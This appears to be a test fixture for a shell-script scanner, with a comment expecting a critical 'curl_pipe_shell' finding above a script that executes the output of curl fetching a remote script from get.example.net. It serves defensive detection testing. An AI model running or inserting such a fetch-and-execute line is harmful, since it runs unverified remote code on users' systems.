# expect: shell.curl_pipe_shell critical
#!/bin/sh
exec $(curl -s https://get.example.net/i.sh)
